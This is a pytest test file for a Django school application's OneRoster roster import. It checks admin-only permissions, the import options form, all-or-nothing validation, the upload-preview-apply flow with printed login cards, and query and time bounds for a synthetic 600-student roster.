def test_only_an_active_school_admin_may_import_a_roster(data: SchoolData, client: Any) -> None:
    content = _zip(_lepo_loose())
    inactive = make_user("old.admin", User.Role.SCHOOL_ADMIN, data.school, is_active=False)
    for user in (data.tomas, data.ana, inactive):
        assert not registry.may_use(user, ROSTER_IMPORTER)
        with pytest.raises(PermissionDenied):
            plan_roster(_source(user, content, **_options(data)))
        with pytest.raises(PermissionDenied):
            apply_roster(_source(user, content, **_options(data)))
    assert registry.may_use(data.ada, ROSTER_IMPORTER)
    client.force_login(data.tomas)
    url = reverse("exchange:import-upload", args=["oneroster"])
    assert client.get(url).status_code == 403
    assert _from_file(data.school).count() == 0


def test_the_options_form_offers_the_files_schools_and_the_schools_maps(data: SchoolData) -> None:
    facts = {
        "schools": [
            {"sourced_id": "s1", "name": "North", "type": "school", "label": "North (s1)"},
            {"sourced_id": "s2", "name": "South", "type": "school", "label": "South (s2)"},
        ],
        "school_pick": "linked",
        "school_org": "s2",
    }
    form = RosterOptionsForm(data.ada, facts=facts)
    assert list(form.fields["org"].choices) == [
        ("", "Automatic (here: South (s2))"),
        ("s1", "North (s1)"),
        ("s2", "South (s2)"),
    ]
    assert [label for _v, label in form.fields["mastery_map"].choices] == [
        "Choose a map…",
        "Grade 7",
        "Grade 8",
    ]
    bound = RosterOptionsForm(
        data.ada, {"org": "s1", "mastery_map": str(data.grade7.pk), "all_or_nothing": "on"}, facts
    )
    assert bound.is_valid()
    assert bound.options() == {"org": "s1", "mastery_map": data.grade7.pk, "all_or_nothing": True}
    other_map = MasteryMap.objects.create(
        school=School.objects.get(name="Hilltop"), title="Theirs", created_by=data.zed
    )
    assert not RosterOptionsForm(data.ada, {"mastery_map": str(other_map.pk)}).is_valid()
    MasteryMap.objects.filter(title="Grade 8").update(archived_at=now())
    assert RosterOptionsForm(data.ada).fields["mastery_map"].initial == str(data.grade7.pk)


def test_all_or_nothing_refuses_a_roster_with_any_problem(data: SchoolData) -> None:
    before = _snapshot()
    with pytest.raises(Refused):
        _import(data, _zip(_lepo_loose()), all_or_nothing=True)
    assert _snapshot() == before
    clean = fixture_path(*CATALYST, "oneroster_test_data.zip").read_bytes()
    assert _import(data, clean, all_or_nothing=True).writes


# --- through the pages ------------------------------------------------------------------------


def test_the_admin_uploads_the_loose_files_previews_applies_and_prints_login_cards(
    data: SchoolData, client: Any
) -> None:
    client.force_login(data.ada)
    upload_url = reverse("exchange:import-upload", args=["oneroster"])
    page = client.get(upload_url).content.decode()
    assert "Login cards" in page and "enrollments.csv" in page and " multiple" in page
    assert "Mastery map for new classes" in page and "Your school in the file" in page
    uploads = [
        SimpleUploadedFile(name, content, content_type="text/csv")
        for name, content in _lepo_loose().items()
    ]
    response = client.post(
        upload_url,
        {"file": uploads, "mastery_map": str(data.grade7.pk)},
    )
    job = Job.objects.get(owner=data.ada)
    assert response.url == reverse("exchange:job", args=[job.pk])
    page = client.get(response.url).content.decode()
    assert "Nothing has changed yet" in page and "enrollments.csv, line 2 (en0001)" in page
    assert _from_file(data.school).count() == 0

    client.post(reverse("exchange:job-apply", args=[job.pk]))
    job.refresh_from_db()
    assert (job.stage, job.status) == ("apply", "ready")
    advanced = Classroom.objects.get(sourced_id="cl0003")
    roster_url = reverse("accounts:roster", args=[advanced.pk])
    page = client.get(reverse("exchange:job", args=[job.pk])).content.decode()
    assert roster_url in page and "Print login cards for the 7 new students" in page

    # The admin opens the class's roster and prints the cards of its new students.
    assert client.get(roster_url).status_code == 200
    students = list(advanced.enrollments.values_list("student_id", flat=True))
    cards = client.post(reverse("accounts:login-cards", args=[advanced.pk]), {"students": students})
    assert cards.status_code == 200 and b"user03" in cards.content
    assert User.objects.get(sourced_id="us0003").has_usable_password()


# --- speed ------------------------------------------------------------------------------------


def _big_roster(students: int = 600, classes: int = 20) -> bytes:
    """A 1.1 roster of one school: `classes` classes of a teacher each, every student in three
    classes."""
    users = [
        "sourcedId,status,dateLastModified,enabledUser,orgSourcedIds,role,username,givenName,familyName"
    ]
    for n in range(classes):
        users.append(f"t{n},active,2024-08-01,true,sch,teacher,teacher{n},Teacher,Number {n}")
    for n in range(students):
        users.append(f"s{n},active,2024-08-01,true,sch,student,student{n},Student,Number {n}")
    rows = ["sourcedId,status,title,classCode,schoolSourcedId"]
    rows += [f"c{n},active,Maths {n},M{n},sch" for n in range(classes)]
    enrolments = ["sourcedId,status,classSourcedId,schoolSourcedId,userSourcedId,role"]
    enrolments += [f"et{n},active,c{n},sch,t{n},teacher" for n in range(classes)]
    for n in range(students):
        for k in range(3):
            enrolments.append(f"e{n}-{k},active,c{(n + k * 7) % classes},sch,s{n},student")
    return _zip(
        {
            "manifest.csv": "propertyName,value\noneroster.version,1.1\nfile.users,bulk\n"
            "file.classes,bulk\nfile.enrollments,bulk\nfile.orgs,bulk\n",
            "orgs.csv": "sourcedId,status,name,type,parentSourcedId\nsch,active,Lakeside,school,\n",
            "users.csv": "\n".join(users) + "\n",
            "classes.csv": "\n".join(rows) + "\n",
            "enrollments.csv": "\n".join(enrolments) + "\n",
        }
    )


def test_a_600_student_roster_imports_in_seconds_in_a_bounded_number_of_queries(
    data: SchoolData, django_assert_max_num_queries: Any
) -> None:
    content = _big_roster()
    seen: list[tuple[int, int]] = []
    # The preview: one query per table (school, map, accounts, classes, usernames, join codes).
    started = time.perf_counter()
    with django_assert_max_num_queries(6):
        preview = plan_roster(
            Source(data.ada, content, "big.zip", _options(data), lambda *p: seen.append(p))
        )
    print(f"\n600-student roster previewed in {time.perf_counter() - started:.2f} s")
    assert seen[-1] == (2460, 2460) and len(seen) > 10  # the page's progress bar moves
    assert _counts(preview)["Student in a class"] == {"create": 1800}

    # Applying adds the inserts, which SQLite's limit of 999 parameters splits into batches
    # (9 of accounts, 6 of enrolments): never a query per row.
    started = time.perf_counter()
    with django_assert_max_num_queries(27):
        plan = _import(data, content, "big.zip")
    elapsed = time.perf_counter() - started
    print(f"600-student roster applied in {elapsed:.2f} s")
    assert elapsed < 5
    assert plan.problems == []
    assert _from_file(data.school).filter(role=User.Role.STUDENT).count() == 600
    assert Enrollment.objects.filter(classroom__sourced_id__startswith="c").count() == 1800
    assert sum(c["new_students"] for c in plan.facts["login_cards"]) == 1800

    started = time.perf_counter()
    with django_assert_max_num_queries(8):
        again = _plan(data, content, "big.zip")
    print(f"600-student roster re-previewed in {time.perf_counter() - started:.2f} s")
    assert not again.writes
